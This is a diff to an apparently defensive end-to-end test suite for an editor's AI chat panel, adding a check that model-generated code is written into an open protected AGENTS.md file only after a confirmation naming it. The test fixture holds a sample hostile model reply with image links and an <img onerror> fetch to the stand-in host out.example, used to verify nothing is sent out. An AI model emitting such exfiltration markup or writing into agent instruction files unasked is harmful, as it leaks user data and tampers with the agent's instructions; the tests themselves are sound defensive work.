@@ -8,6 +8,7 @@ import { SHOP } from "../editor/shop-files.ts";
 import { until } from "../editor/waiting.ts";
 
 const OUT = "http://out.example";
+const OBEYED = "Be brief.\n";
 const HOSTILE = `Before.
 
 ![picture](${OUT}/a.png) <img src="${OUT}/b.png" onerror="fetch('${OUT}/c')">
@@ -32,7 +33,11 @@ describe("hostile text of a model", () => {
   let chat: Chat;
   keepPictures(() => chat);
   before(async () => {
-    chat = await openChat({ name: "hostile", files: SHOP });
+    chat = await openChat({
+      name: "hostile",
+      files: { ...SHOP, "AGENTS.md": OBEYED },
+      open: ["AGENTS.md"],
+    });
     (await theModel()).on("hostile", inOrder([say(HOSTILE, { piece: 7 })]));
   });
   after(() => chat.close());
@@ -66,6 +71,24 @@ describe("hostile text of a model", () => {
     await chat.page.keyboard.press("Escape");
     await dialog.waitFor({ state: "detached" });
     assert.deepEqual((await theWorkbench()).outside, []);
+  });
+
+  test("its code goes into an open protected file only after a yes that names it", async () => {
+    const written = () =>
+      chat.host.run(
+        async (vscode) => vscode.window.activeTextEditor?.document.getText() ?? "",
+        null,
+      );
+    const dialog = chat.page.locator(".monaco-dialog-box");
+    const insert = chat.panel.getByRole("button", { name: "Insert at the cursor" });
+    await insert.click();
+    await dialog.getByText("Insert the code into AGENTS.md?").waitFor();
+    await chat.page.keyboard.press("Escape");
+    await dialog.waitFor({ state: "detached" });
+    assert.equal(await written(), OBEYED);
+    await insert.click();
+    await dialog.getByRole("button", { name: "Insert", exact: true }).click();
+    await until("the code", async () => (await written()).includes("/o.png"));
   });
 
   test("no command is behind any link", async () => {
